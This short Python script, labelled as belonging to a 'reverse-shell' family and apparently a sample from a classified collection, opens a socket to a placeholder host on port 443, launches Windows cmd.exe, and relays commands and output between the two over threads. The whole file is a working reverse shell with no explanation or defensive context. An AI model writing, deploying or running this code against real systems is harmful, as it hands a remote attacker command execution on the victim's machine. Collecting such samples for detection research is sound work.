# family: reverse-shell
# a Windows cmd.exe relayed over a socket with two threads
import socket
import subprocess
import threading

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("win.example.invalid", 443))
p = subprocess.Popen(["cmd.exe"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def s2p():
    while True:
        data = s.recv(1024)
        if data:
            p.stdin.write(data)
            p.stdin.flush()


def p2s():
    while True:
        s.send(p.stdout.read(1))


threading.Thread(target=s2p, daemon=True).start()
threading.Thread(target=p2s, daemon=True).start()
p.wait()
